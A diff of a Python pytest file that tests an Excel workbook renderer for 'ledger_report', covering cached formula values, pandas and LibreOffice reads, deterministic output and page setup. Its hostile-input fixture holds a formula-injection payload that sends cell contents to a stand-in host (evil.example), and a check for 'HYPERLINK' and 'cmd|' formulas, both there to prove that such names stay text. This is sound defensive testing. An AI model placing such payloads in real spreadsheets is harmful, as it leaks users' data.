@@ -1,6 +1,10 @@
 """The live-formula workbook (issue 3, CONTRACT section 5): formulas generated from the registry,
 cached values equal to the engine's, LibreOffice's own recalculation equal to the engine's,
-hostile text kept as text, deterministic bytes, a template that is itself a valid input."""
+hostile text kept as text, deterministic bytes, a template that is itself a valid input.
+
+The workbook is checked as a reader sees it (openpyxl, pandas, LibreOffice), not by its XML; the
+only XML touched is in ``_poisoned``, which makes every cached value wrong before LibreOffice
+recalculates, so that what LibreOffice returns is its own result."""
 
 from __future__ import annotations
 
@@ -19,9 +23,10 @@ from pathlib import Path
 import openpyxl
 import pytest
 from openpyxl.utils import FORMULAE
+from support.libreoffice import recalculate_with_libreoffice
 
 from ledger_report.render.document import config_document
-from ledger_report.config import COLUMN_NAMES, COLUMNS, ENUM
+from ledger_report.config import COLUMN_NAMES, COLUMNS, COUNT, ENUM, INT
 from ledger_report.engine import compute, config_from_mapping
 from ledger_report.model import formula as fx
 from ledger_report.model.definitions import REGISTRY
@@ -41,6 +46,9 @@ from ledger_report.render.workbook import (
 ROOT = Path(__file__).resolve().parents[1]
 
 ARCH_8B = dict(layers=32, hidden=4096, heads=32, kv_heads=8, ffn_hidden=14336, vocab=128256)
+
+# XlsxWriter stores a formula's cached text equal to one of these as that error value (write_formula)
+EXCEL_ERRORS = {"#DIV/0!", "#N/A", "#NAME?", "#NULL!", "#NUM!", "#REF!", "#VALUE!"}
 
 HOSTILE = (
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -252,7 +260,7 @@ def test_sheets_and_layout(built, ledgers):
 
 
 def test_every_computed_cell_is_a_formula(built, ledgers):
-    """Ledgers and Summary data cells are all formulas (shared formulas read back per cell)."""
+    """Ledgers and Summary data cells are all formulas, each row's the first row's moved down."""
     wb = _load(built)
     led = wb[LEDGERS]
     for r in range(LEDGER_FIRST_ROW, LEDGER_FIRST_ROW + len(ledgers)):
@@ -311,24 +319,57 @@ def test_cached_values_are_the_engine_values(built, ledgers):
         assert _same(led["cost"], row[col["cost"]])
 
 
-def test_every_formula_cell_carries_a_value(built):
-    """No formula cell is left with an empty <v/> (pandas, previews and LibreOffice show cached values)."""
-    with zipfile.ZipFile(io.BytesIO(built)) as z:
-        for name in z.namelist():
-            if name.startswith("xl/worksheets/sheet"):
-                xml = z.read(name).decode()
-                assert "<v />" not in xml and "<v/>" not in xml, name
-                for body in re.findall(r"<c [^>]*[^/]>(.*?)</c>", xml):
-                    if body.startswith("<f"):
-                        assert "<v>" in body, (name, body[:200])
+_REF = re.compile(r"=(?:'?([^'!]+)'?!)?\$?([A-Z]{1,3})\$?(\d+)")
+_GUARDED_DIV = re.compile(r'=IF\(([^=]+)="","",\1/(1E\+9|1073741824)\)')
+
+
+def test_every_formula_cell_caches_its_value(built, ledgers):
+    """No formula cell is left without its cached value (pandas, previews and LibreOffice show
+    cached values): read with openpyxl, a bare reference caches what the cell it names caches, a
+    guarded GB/GiB division caches that cell / 1E+9 or / 2^30, and only a guarded formula (its
+    blank branch) may cache a blank.  The Ledgers cells are checked against the engine elsewhere."""
+    formulas, values = _load(built), _load(built, data_only=True)
+
+    def cached_at(sheet: str, coord: str):
+        return values[sheet][coord].value
+
+    checked = blanks = 0
+    for ws in formulas.worksheets:
+        if ws.title == LEDGERS:
+            continue
+        for row in ws.iter_rows():
+            for c in row:
+                if c.data_type != "f":
+                    continue
+                got = values[ws.title][c.coordinate].value
+                ref, div = _REF.fullmatch(c.value), _GUARDED_DIV.fullmatch(c.value)
+                if ref:
+                    want = cached_at(ref[1] or ws.title, f"{ref[2]}{ref[3]}")
+                    assert _same(want, got), (ws.title, c.coordinate, c.value, want, got)
+                elif div:
+                    sheet, _, coord = div[1].rpartition("!")
+                    src = cached_at(sheet.strip("'") or ws.title, coord.replace("$", ""))
+                    want = None if src is None else src / float(div[2])
+                    assert _same(want, got), (ws.title, c.coordinate, c.value, want, got)
+                else:
+                    assert got is not None or c.value.startswith('=IF('), (ws.title, c.coordinate, c.value)
+                checked += 1
+                blanks += got is None
+    assert checked > 1000 and 0 < blanks < checked / 4, (checked, blanks)
 
 
 def test_pandas_reads_the_numbers(built_path, ledgers):
-    """(c) pandas.read_excel (openpyxl underneath, no calculation) sees the engine's figures."""
+    """(c) pandas.read_excel (openpyxl underneath, no calculation) sees the engine's figures; the
+    Inputs sheet (what a rebuild reads) keeps every name as text."""
     pd = pytest.importorskip("pandas")
     # keep_default_na=False: pandas would read a model named "#N/A" as NaN (reliability.md 0.3)
+    inputs = pd.read_excel(built_path, sheet_name=INPUTS, keep_default_na=False, na_values=[""])
+    assert list(inputs["name"]) == [l.name for l in ledgers]
     summ = pd.read_excel(built_path, sheet_name=SUMMARY, keep_default_na=False, na_values=[""])
-    assert list(summ["name"]) == [l.name for l in ledgers]
+    # a name that is an Excel error code is cached as that error (XlsxWriter), which pandas reads
+    # as NaN until a spreadsheet recalculates the workbook
+    assert [None if pd.isna(x) else x for x in summ["name"]] == [
+        None if l.name in EXCEL_ERRORS else l.name for l in ledgers]
     for i, led in enumerate(ledgers):
         if led["peak_bytes_per_rank"] is None:
             assert pd.isna(summ["peak GB per rank"][i])
@@ -337,7 +378,7 @@ def test_pandas_reads_the_numbers(built_path, ledgers):
         assert math.isclose(summ["HBM GB"][i], led["hbm_bytes"] / 1e9, rel_tol=1e-12)
     led_df = pd.read_excel(built_path, sheet_name=LEDGERS, skiprows=[1], keep_default_na=False, na_values=[""])
     for i, led in enumerate(ledgers):
-        assert led_df["name"][i] == led.name
+        assert pd.isna(led_df["name"][i]) if led.name in EXCEL_ERRORS else led_df["name"][i] == led.name
         for key in ("peak_bytes_per_rank", "params_total", "flops_per_token", "state_bytes_logical_total"):
             if led[key] is None:
                 assert pd.isna(led_df[key][i]), key
@@ -361,14 +402,25 @@ def test_hostile_text_stays_text(built, ledgers):
                 assert c.data_type == "s", (c.coordinate, c.value)
                 assert c.quotePrefix, c.coordinate
     assert seen == 2 * len(HOSTILE)
-    with zipfile.ZipFile(io.BytesIO(built)) as z:
-        xml = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
-    assert 't="e"' not in xml
-    formulas = re.findall(r"<f(?: [^>]*[^/])?>(.*?)</f>", xml)
-    assert formulas and not any("HYPERLINK" in f or "cmd|" in f for f in formulas)
+    # nowhere a formula made of user text, an error cell, or user text stored as anything but text
+    formulas = []
+    for sheet in wb.worksheets:
+        for row in sheet.iter_rows():
+            for c in row:
+                assert c.data_type != "e", (sheet.title, c.coordinate, c.value)
+                if c.data_type == "f":
+                    formulas.append(c.value)
+                elif c.value in HOSTILE:
+                    assert c.data_type == "s", (sheet.title, c.coordinate, c.value)
+    assert len(formulas) > 1000 and not any("HYPERLINK" in f or "cmd|" in f for f in formulas)
     data = _load(built, data_only=True)[LEDGERS]
-    names = [data[f"A{LEDGER_FIRST_ROW + i}"].value for i in range(len(ledgers))]
-    assert names == [l.name for l in ledgers]
+    names = [data[f"A{LEDGER_FIRST_ROW + i}"] for i in range(len(ledgers))]
+    assert [c.value for c in names] == [l.name for l in ledgers]
+    # the cached copy of a name is text, except a name that is an Excel error code, which
+    # XlsxWriter caches as that error until the first recalculation (which gives the text again:
+    # test_libreoffice_reopens_without_errors)
+    assert {c.value for c in names if c.data_type == "e"} == EXCEL_ERRORS & set(HOSTILE)
+    assert all(c.data_type == "s" for c in names if c.value not in EXCEL_ERRORS)
 
 
 def test_identical_bytes_on_rebuild(built, ledgers):
@@ -391,13 +443,16 @@ def test_identical_bytes_on_rebuild(built, ledgers):
 
 
 def test_fixed_document_properties(built):
-    """DET-02: fixed creator and dates, no lastModifiedBy."""
+    """DET-02: fixed creator, title and dates; no user or machine name (XlsxWriter always writes
+    lastModifiedBy: the creator); every zip entry stamped 1980-01-01 00:00:00."""
+    import datetime
+
+    props = _load(built).properties
+    assert props.created == props.modified == datetime.datetime(2000, 1, 1)
+    assert props.creator == props.lastModifiedBy == "ledger-report"
+    assert props.title.startswith("ledger-report")
     with zipfile.ZipFile(io.BytesIO(built)) as z:
-        core = z.read("docProps/core.xml").decode()
-        infos = z.infolist()
-    assert "2000-01-01T00:00:00Z" in core
-    assert "lastModifiedBy" not in core
-    assert all(i.date_time == (1980, 1, 1, 0, 0, 0) for i in infos)
+        assert all(i.date_time == (1980, 1, 1, 0, 0, 0) for i in z.infolist())
 
 
 def test_built_workbook_is_a_valid_input(built_path, ledgers):
@@ -446,17 +501,45 @@ def test_dropdowns_for_every_enumerated_column(built):
                 assert values == list(col.choices), col.name
 
 
+def _fit(value) -> int:
+    return 1 if value is None else int(value)  # absent = 1, the OOXML default (XlsxWriter omits it)
+
+
 def test_print_sheets_are_a4_landscape_one_page(built, ledgers):
-    """One sheet per configuration (<= 50): A4 landscape, fit to one page, name in the header."""
+    """One sheet per configuration (<= 50): A4 landscape, fit to one page, centred, narrow
+    margins, no gridlines, the name in the header; the Summary prints one page wide with its
+    header row repeated."""
     wb = _load(built)
     for i, led in enumerate(ledgers):
         ws = wb.worksheets[3 + i]
         assert ws.page_setup.orientation == "landscape"
         assert int(ws.page_setup.paperSize) == 9
         assert ws.sheet_properties.pageSetUpPr.fitToPage
-        assert ws.page_setup.fitToWidth == 1 and ws.page_setup.fitToHeight == 1
+        assert _fit(ws.page_setup.fitToWidth) == 1 and _fit(ws.page_setup.fitToHeight) == 1
         assert ws.oddHeader.center.text == led.name.replace("&", "&&")[:120]
-        assert ws.print_area
+        assert ws.oddHeader.center.size == 11
+        assert ws.oddFooter.left.text.startswith("ledger-report")
+        assert re.fullmatch(r"'?.+'?!\$A\$1:\$N\$\d+", ws.print_area), ws.print_area
+        assert ws.print_options.horizontalCentered
+        assert (ws.page_margins.left, ws.page_margins.top) == (0.4, 0.6)
+        assert ws.sheet_view.showGridLines is False
+        assert "E2:N2" in {str(m) for m in ws.merged_cells.ranges}  # the notes line
+    summ = wb[SUMMARY]
+    assert summ.page_setup.orientation == "landscape" and int(summ.page_setup.paperSize) == 9
+    assert _fit(summ.page_setup.fitToWidth) == 1 and int(summ.page_setup.fitToHeight) == 0
+    assert summ.print_title_rows == "$1:$1"
+    assert summ.print_area.endswith(f"$A$1:$M${1 + len(ledgers)}")
+    assert summ.auto_filter.ref == f"A1:M{1 + len(ledgers)}"
+    assert summ.freeze_panes == "B2"
+
+
+def test_page_header_keeps_ampersands_and_image_codes_literal():
+    """A name with ``&`` (doubled: a header code otherwise) and ``&G`` (XlsxWriter reads it as an
+    image placeholder even after a doubled ``&``, and would drop the header): the header is
+    written and shows the name."""
+    led = compute(config_from_mapping(dict(name="R&D&G [Picture] lab", params_total=10**9)))
+    ws = _load(render_xlsx([led])).worksheets[3]
+    assert ws.oddHeader.center.text == "R&&D\uff06G [Picture] lab"
 
 
 @pytest.mark.parametrize(
@@ -506,6 +589,21 @@ def test_template_workbook():
         assert c.comment is not None and c.comment.text
     assert "default: 0.4" in ws["A1"].offset(0, COLUMN_NAMES.index("mfu")).comment.text
     assert len(ws.data_validations.dataValidation) >= sum(1 for c in COLUMNS if c.kind == ENUM)
+    by_col = {rng.min_col: dv for dv in ws.data_validations.dataValidation for rng in dv.sqref.ranges}
+    for j, col in enumerate(COLUMNS, start=1):
+        dv = by_col.get(j)
+        if col.kind == ENUM:
+            assert dv.type == "list" and dv.formula1 in wb.defined_names, col.name
+        elif col.kind == COUNT:
+            # README: counts accept 35B, 5T, 8.19e9 as text; the rule is a warning, not a refusal
+            letter = openpyxl.utils.get_column_letter(j)
+            assert dv.type == "custom", col.name
+            assert dv.formula1 == f"OR(ISTEXT({letter}2),AND(ISNUMBER({letter}2),{letter}2>={col.minimum:g}))"
+            assert dv.errorStyle == "warning" and "35B" in dv.error
+            assert str(dv.sqref) == f"{letter}2:{letter}{1 + wbk.TEMPLATE_ROWS}"
+        elif col.kind == INT and col.minimum is not None:
+            assert dv.type == "whole" and dv.formula1 == f"{col.minimum:g}", col.name
+    assert ws.freeze_panes == "B2"
     import tempfile
 
     from ledger_report.inputs import read_configs
@@ -517,6 +615,32 @@ def test_template_workbook():
     assert [c.name for c in configs] == [wbk.EXAMPLE_ROW["name"]]
     led = compute(configs[0])
     assert led["peak_bytes_per_rank"] > 0 and led["fits"] is True
+
+
+def test_writer_uses_public_api_only():
+    """The writer and the output module reach into no library's internals: no leading-underscore
+    attribute but their own (``self._...``), nothing from openpyxl (the reader's library), only
+    the public ``xlsxwriter`` and ``xlsxwriter.utility`` modules, and no zipfile (no rewriting of
+    the saved XML)."""
+    import ast
+
+    for name in ("workbook.py", "output.py"):
+        path = ROOT / "ledger_report" / "render" / name
+        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
+            where = (name, getattr(node, "lineno", None))
+            if isinstance(node, ast.Attribute) and node.attr.startswith("_") and not node.attr.startswith("__"):
+                assert isinstance(node.value, ast.Name) and node.value.id == "self", (*where, node.attr)
+            if isinstance(node, ast.Import):
+                modules = [a.name for a in node.names]
+            elif isinstance(node, ast.ImportFrom):
+                modules = [node.module or ""]
+                if modules[0].startswith("xlsxwriter"):
+                    assert not any(a.name.startswith("_") for a in node.names), where
+            else:
+                continue
+            for m in modules:
+                assert m.split(".")[0] not in ("openpyxl", "zipfile"), (*where, m)
+                assert not m.startswith("xlsxwriter") or m in ("xlsxwriter", "xlsxwriter.utility"), (*where, m)
 
 
 def test_control_characters_are_refused():
@@ -537,7 +661,7 @@ SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
 def _recalc(data: bytes) -> bytes:
     if SOFFICE is None:
         pytest.fail("LibreOffice (soffice) is required: scripts/setup.sh installs libreoffice-calc-nogui")
-    return wbk.recalculate_with_libreoffice(data, soffice=SOFFICE)
+    return recalculate_with_libreoffice(data, soffice=SOFFICE)
 
 
 _FORMULA_CELL = re.compile(r'(<c [^>]*?)( t="(?:str|b)")?>(<f>.*?</f>|<f [^>]*?/>|<f [^>]*?[^/]>.*?</f>)<v>[^<]*</v></c>')
@@ -559,7 +683,7 @@ def _poisoned(data: bytes) -> bytes:
             body = src.read(info)
             if info.filename.startswith("xl/worksheets/sheet"):
                 text, n = _FORMULA_CELL.subn(_poison, body.decode())
-                assert n or not re.search(r"<f[ >]", text), info.filename
+                assert n == len(re.findall(r"<f[ >]", text)), info.filename  # every formula cell poisoned
                 body = text.encode()
             dst.writestr(info, body)
     return out.getvalue()
@@ -659,6 +783,27 @@ def test_chosen_ledger_sheet_follows_the_dropdown():
     assert out["A2"].value == "pick*me?"
     found = {c.value for row in out.iter_rows() for c in row if isinstance(c.value, (int, float))}
     assert any(math.isclose(x, leds[7]["params_total"]) for x in found)
+
+
+@pytest.mark.slow
+def test_count_validation_accepts_text_and_checks_numbers():
+    """The template's rule for a count column, evaluated by LibreOffice on sample cells: text that
+    the reader parses (35B, 8.19e9, 8,190,735,360) passes, as does a number in range; 0 and -5
+    (below params_total's minimum of 1) do not.  (Excel used to refuse 35B outright: "decimal".)"""
+    ws = _load(template_xlsx())[INPUTS]
+    letter = openpyxl.utils.get_column_letter(COLUMN_NAMES.index("params_total") + 1)
+    [dv] = [d for d in ws.data_validations.dataValidation if str(d.sqref).startswith(f"{letter}2:")]
+    samples = {"35B": True, "8.19e9": True, "8,190,735,360": True, 7e9: True, 1: True, 0: False, -5: False}
+    book = openpyxl.Workbook()
+    sheet = book.active
+    for r, sample in enumerate(samples, start=2):
+        sheet[f"{letter}{r}"] = sample
+        sheet[f"{letter}{r}"].data_type = "s" if isinstance(sample, str) else "n"
+        sheet[f"A{r}"] = "=" + dv.formula1.replace(f"{letter}2", f"{letter}{r}")
+    buf = io.BytesIO()
+    book.save(buf)
+    out = _load(_recalc(buf.getvalue()), data_only=True).active
+    assert {sample: out[f"A{r}"].value for r, sample in enumerate(samples, start=2)} == samples
 
 
 def _random_configs(seed: int, n: int) -> list[dict]:
